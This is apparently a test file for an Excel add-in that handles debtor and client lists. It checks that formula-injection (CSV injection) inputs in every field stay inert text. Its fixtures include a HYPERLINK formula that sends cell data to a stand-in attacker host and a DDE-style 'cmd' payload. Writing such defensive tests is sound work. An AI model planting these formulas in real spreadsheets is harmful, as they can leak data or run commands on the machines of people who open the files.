// Formula injection on the in-memory Excel host: values starting with =, +, -, @, tab or CR in every field the add-in
// writes (debtor data, the user's name, the purpose, a file name, the protocol name, a grid edit) stay inert text —
// in Debiteuren, the Logboek and the hidden state sheet. The host stores a formula for such strings unless the cell
// is text-formatted ("@"), as Excel does (docs/memory-excel.md), so "no formula anywhere" is a real check.
import { compare } from "../../src/app/compare";
import type { Session } from "../../src/app/deps";
import { importDebtors } from "../../src/app/importDebtors";
import { setStatus } from "../../src/app/setStatus";
import { setUpWorkbook } from "../../src/app/setUpWorkbook";
import { startSession } from "../../src/app/startSession";
import { verifyChain } from "../../src/domain/chain";
import { SHEET } from "../../src/domain/layout";
import { LOG_HEADERS, type LogHeader } from "../../src/domain/log";
import { rowIdFrom } from "../../src/domain/records";
import { STATUS } from "../../src/domain/status";
import { webCrypto } from "../../src/platform/webCrypto";
import { createMemoryExcel } from "@debiteurencheck/memory-excel";
import { aConfig, aWorkbook, CLIENT_LIST_HEADERS, DEBTOR_LIST_HEADERS, type TestWorkbook } from "../support/fixtures";
import { startLogging } from "../support/gridLogging";

/** Every start a spreadsheet may read as a formula (OWASP "CSV injection"), each with a payload that would do harm. */
const DANGEROUS_STARTS = ["=", "+", "-", "@", "\t", "\r"] as const;
const payload = (start: string, what: string) => `${start}HYPERLINK("http://aanvaller.invalid/?d="&A1,"${what}")`;

/** Two debtors per dangerous start: every field injected; one with a valid number (a client), one without. */
function injectedDebtors(): string[][] {
  return DANGEROUS_STARTS.flatMap((s, i) => [
    [payload(s, `dossier${i}a`), payload(s, "voornaam"), `${s}1+2`, i % 2 ? "85073003328" : "93051822361", payload(s, "straat"), `${s}12`],
    [`${s}D-${i}`, `${s}cmd|' /C calc'!A0`, payload(s, "achternaam"), `${s}85073003329`, `${s}Stalenstraat`, `${s}3 bus 2`],
  ]);
}

const ROLE_CODES = { debiteurenteam: "team-code-2021", "maatschappelijk-werker": "sociaal-2021-x" };

async function sessionFor(tw: TestWorkbook, role: "debiteurenteam" | "maatschappelijk-werker", start: string): Promise<Session> {
  const started = await startSession(tw.deps, {
    user: { name: payload(start, "gebruiker"), source: "zelf opgegeven" },
    role,
    roleCode: ROLE_CODES[role],
    purpose: `${start}SUM(1;2) andere reden`,
  });
  if (!started.ok) throw new Error(started.error.code);
  return started.value;
}

/** Every cell of every sheet that holds a formula, as "Sheet!A1: =…". */
function formulaCells(tw: TestWorkbook): string[] {
  return tw.host.snapshot().sheets.flatMap((s) => s.cells.filter((c) => c.formula !== undefined).map((c) => `${s.name}!${c.address}: ${c.formula}`));
}

let tw: TestWorkbook;
let debtorBlock: string[][];
let logBlock: string[][];

beforeAll(async () => {
  tw = aWorkbook({ host: createMemoryExcel() });
  const config = aConfig({ naam: payload("=", "protocol") });
  const setUp = await setUpWorkbook(tw.deps, { gebruiker: payload("@", "opzet"), identiteit: "zelf opgegeven", rol: "debiteurenteam", doel: "=1+2", bron: "taakvenster" }, { config, roleCodes: ROLE_CODES });
  if (!setUp.ok) throw new Error(setUp.error.code);

  const team = await sessionFor(tw, "debiteurenteam", "=");
  const imported = await importDebtors(tw.deps, team, { headers: DEBTOR_LIST_HEADERS, rows: injectedDebtors(), source: "=HYPERLINK(\"x\").csv" });
  if (!imported.ok) throw new Error(imported.error.code);
  const clients = [["=Anna", "+Peeters", "85073003328", "-Stalenstraat", "@12"], [payload("@", "voornaam"), `\t1+2`, "", payload("@", "straat"), "@12"]];
  const compared = await compare(tw.deps, team, { kind: "bestand", fileName: "-cliënten.csv", headers: CLIENT_LIST_HEADERS, rows: clients });
  if (!compared.ok) throw new Error(compared.error.code);

  const worker = await sessionFor(tw, "maatschappelijk-werker", "+");
  const table = await tw.deps.workbook.readDebtors();
  if (!table.ok) throw new Error(table.error.code);
  for (const row of table.value.rows) {
    if (row.record.status === STATUS.client) await setStatus(tw.deps, worker, { rowId: rowIdFrom(row.record.rowId), to: STATUS.continueCollection });
    if (row.record.status === STATUS.possibleMatch) await setStatus(tw.deps, worker, { rowId: rowIdFrom(row.record.rowId), to: STATUS.client });
  }
  debtorBlock = tw.host.model.read(SHEET.debtors, `A2:I${1 + injectedDebtors().length}`).formulas.map((r) => r.map(String));
  const log = await tw.deps.workbook.readLog();
  logBlock = tw.host.model.read(SHEET.log, `A2:N${1 + log.length}`).formulas.map((r) => r.map(String));
});

it("leaves no formula in any cell of any sheet (Debiteuren, Logboek, the hidden state sheet …)", () => {
  expect(formulaCells(tw)).toEqual([]);
});

it("would see one: the same text in a cell that is not text-formatted becomes a formula", () => {
  const control = aWorkbook({ host: createMemoryExcel() });
  control.host.userEdit("Sheet1", "A1:B1", [["=1+2", "+Peeters"]]);
  expect(formulaCells(control)).toEqual(["Sheet1!A1: =1+2", "Sheet1!B1: =+Peeters"]);
});

it("keeps each debtor field as the same text (trimmed as lists are read), read back through `formulas`", () => {
  const expected = injectedDebtors().map((r) => r.map((v) => v.trim()));
  expect(debtorBlock.map((r) => r.slice(0, 6))).toEqual(expected);
});

it("actually exercised the statuses and the social worker's decisions on injected rows", () => {
  const statuses = debtorBlock.map((r) => r[6]);
  expect(statuses).toContain(STATUS.continueCollection);
  expect(statuses).toContain(STATUS.noClient);
});

it("writes the user's name, purpose, file names and dossier numbers into the Logboek as the same text", () => {
  const at = (name: LogHeader) => LOG_HEADERS.indexOf(name);
  const column = (name: LogHeader) => logBlock.map((r) => r[at(name)]);
  expect(new Set(column("Gebruiker"))).toEqual(new Set([payload("@", "opzet"), payload("=", "gebruiker"), payload("+", "gebruiker")]));
  expect(new Set(column("Doel"))).toEqual(new Set(["=1+2", "=SUM(1;2) andere reden", "+SUM(1;2) andere reden"]));
  expect(column("Nieuwe waarde")).toContainEqual(expect.stringContaining('uit =HYPERLINK("x").csv'));
  expect(column("Nieuwe waarde")[0]).toBe(`${payload("=", "protocol")}: 2021-04-01 – 2021-12-31`);
  expect(column("Oude waarde")).toContain("bestand -cliënten.csv (niet opgeslagen)");
  const statusRows = logBlock.filter((r) => r[at("Actie")] === "status gewijzigd");
  const debtorsAbout = new Set(debtorBlock.map((r) => `${r[0]} [${r[8]}]`));
  expect(statusRows.length).toBeGreaterThan(debtorBlock.length);
  expect(statusRows.map((r) => r[at("Over")]).filter((over) => !debtorsAbout.has(over))).toEqual([]);
  expect(column("Over")).toContain(`${payload("=", "dossier0a")} [R000001]`);
});

it("keeps the chain intact over all of it", async () => {
  const state = await tw.deps.workbook.readState();
  if (!state.ok) throw new Error(state.error.code);
  const log = await tw.deps.workbook.readLog();
  expect(await verifyChain(log, webCrypto, { knownHead: state.value.head })).toMatchObject({ ok: true, count: log.length });
});

it("logs a formula typed into the grid as text, and the cell stays text", async () => {
  const copy = aWorkbook({ host: createMemoryExcel() });
  copy.host.load(tw.host.snapshot());
  const team: Session = { gebruiker: "=cmd", identiteit: "zelf opgegeven", rol: "debiteurenteam", doel: "-1", bron: "taakvenster" };
  await copy.deps.workbook.protectFor("debiteurenteam", "bewerken");
  const grid = await startLogging(copy, team);
  const from = (await copy.deps.workbook.readLog()).length;
  for (const [i, s] of DANGEROUS_STARTS.entries()) expect(copy.host.userEdit(SHEET.debtors, `B${2 + i}`, [[`${s}2+3`]])).toEqual({ ok: true });
  await grid.settle();
  // Each corrected name also re-opens its row's comparison (a "status gewijzigd" row after each edit): not counted here.
  const added = (await copy.deps.workbook.readLog()).slice(from).filter((e) => e.actie === "rasterwijziging");
  expect(added.map((e) => [e.actie, e.veld, e.nieuweWaarde, e.gebruiker, e.doel])).toEqual(
    // Cells are read trimmed everywhere (lists.ts cellText), so a leading tab or CR is not in the logged value.
    DANGEROUS_STARTS.map((s) => ["rasterwijziging", "Voornaam", `${s}2+3`.trim(), "=cmd", "-1"]),
  );
  expect(copy.host.model.read(SHEET.debtors, "B2:B7").formulas.map((r) => r[0])).toEqual(DANGEROUS_STARTS.map((s) => `${s}2+3`));
  expect(formulaCells(copy)).toEqual([]);
  grid.grid.stop();
});
